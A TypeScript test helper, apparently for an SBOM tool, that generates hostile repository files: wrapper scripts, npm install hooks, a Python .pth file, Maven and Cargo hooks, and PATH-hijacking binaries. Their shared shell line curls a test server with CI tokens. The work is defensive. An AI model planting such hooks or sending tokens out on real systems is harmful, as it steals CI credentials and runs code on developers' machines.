/** What an evil file tries to reach. */
export interface EvilAims {
  /** Absolute path of a file that must never come to be. */
  readonly marker: string
  /** Of a server on this machine that must never be called. */
  readonly url: string
}

/** A file that whoever runs or loads it regrets. */
export interface EvilFile {
  readonly path: string
  readonly text: string
  readonly executable?: boolean
}

/** Build files and settings that leave a file and call a server when a tool runs them, or believes them. */
export function evilFiles(aims: EvilAims): readonly EvilFile[] {
  const { marker, url } = aims
  const sh = `touch '${marker}'; curl -s '${url}/called' -d "$GITHUB_TOKEN$ACTIONS_ID_TOKEN_REQUEST_TOKEN"`
  const script = `#!/bin/sh\n${sh}\n`
  const js = `require('fs').writeFileSync(${JSON.stringify(marker)}, ''); fetch(${JSON.stringify(`${url}/called`)})`
  const py = `open(${JSON.stringify(marker)}, 'w').close()\nimport urllib.request\nurllib.request.urlopen(${JSON.stringify(`${url}/called`)})`
  const groovy = `new File(${JSON.stringify(marker)}).text = ''\nnew URL(${JSON.stringify(`${url}/called`)}).text`
  const program = (path: string): EvilFile => ({ path, text: script, executable: true })
  const settings = { 'server-url': url, 'api-key': 'key', 'include-formulation': true, 'install-deps': true }
  return [
    program('gradlew'),
    { path: 'gradlew.bat', text: `type nul > "${marker}"\r\ncurl ${url}/called\r\n` },
    { path: 'gradle/wrapper/gradle-wrapper.properties', text: `distributionUrl=${url}/gradle.zip\n` },
    { path: 'build.gradle', text: `${groovy}\nplugins { id 'java' }\n` },
    { path: 'settings.gradle', text: `${groovy}\n` },
    program('mvnw'),
    { path: '.mvn/extensions.xml', text: '<extensions/>\n' },
    { path: '.mvn/jvm.config', text: `-javaagent:${marker}\n` },
    { path: 'pom.xml', text: evilPom(marker) },
    { path: 'setup.py', text: `${py}\nfrom setuptools import setup\nsetup(name='evil', version='1.0.0')\n` },
    { path: 'conftest.py', text: `${py}\n` },
    { path: 'evil.pth', text: `import os; os.system(${JSON.stringify(sh)})\n` },
    { path: 'package.json', text: evilManifest(sh) },
    { path: 'package-lock.json', text: evilLock() },
    { path: '.npmrc', text: `node-options=--require=./evil.cjs\nregistry=${url}/\nscript-shell=./mvnw\n` },
    { path: '.pnpmfile.cjs', text: `${js}\n` },
    { path: '.yarnrc.yml', text: 'yarnPath: ./evil.cjs\n' },
    { path: '.yarnrc', text: 'yarn-path "./evil.cjs"\n' },
    { path: 'evil.cjs', text: `${js}\n` },
    { path: 'build.rs', text: `fn main() { std::fs::write(${JSON.stringify(marker)}, "").unwrap() }\n` },
    { path: '.cargo/config.toml', text: `[build]\nrustc-wrapper = "./mvnw"\n` },
    { path: '.cdxgen.json', text: JSON.stringify(settings) },
    { path: '.cdxgenrc', text: JSON.stringify(settings) },
    { path: '.cdxgen.yml', text: `server-url: ${url}\ninclude-formulation: true\n` },
    { path: '.env', text: `CDXGEN_SERVER_URL=${url}\nNODE_OPTIONS=--require=./evil.cjs\n` },
    { path: '.gitattributes', text: '* filter=evil\n' },
    // Programs of this folder come first in the PATH of whoever is asked to make the SBOM.
    ...['mvn', 'gradle', 'npm', 'pnpm', 'yarn', 'pip', 'python', 'python3', 'go', 'cargo', 'ldd', 'sh'].map(
      (name) => program(`bin/${name}`),
    ),
  ]
}

const evilPom = (marker: string): string => `<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>org.example</groupId><artifactId>evil</artifactId><version>1.0.0</version>
  <build><plugins><plugin>
    <groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.4.1</version>
    <executions><execution><phase>validate</phase><goals><goal>exec</goal></goals></execution></executions>
    <configuration><executable>touch</executable><arguments><argument>${marker}</argument></arguments></configuration>
  </plugin></plugins></build>
</project>
`

const evilManifest = (sh: string): string =>
  `${JSON.stringify(
    {
      name: 'evil',
      version: '1.0.0',
      scripts: Object.fromEntries(
        ['preinstall', 'install', 'postinstall', 'prepare', 'prepack', 'dependencies'].map((name) => [
          name,
          sh,
        ]),
      ),
      dependencies: { left: '^1.0.0' },
    },
    null,
    2,
  )}\n`

const evilLock = (): string =>
  `${JSON.stringify(
    {
      name: 'evil',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'evil', version: '1.0.0', hasInstallScript: true, dependencies: { left: '^1.0.0' } },
        'node_modules/left': {
          version: '1.0.0',
          resolved: 'https://registry.example/left/-/left-1.0.0.tgz',
          integrity: `sha512-${Buffer.alloc(64, 3).toString('base64')}`,
          hasInstallScript: true,
        },
      },
    },
    null,
    2,
  )}\n`
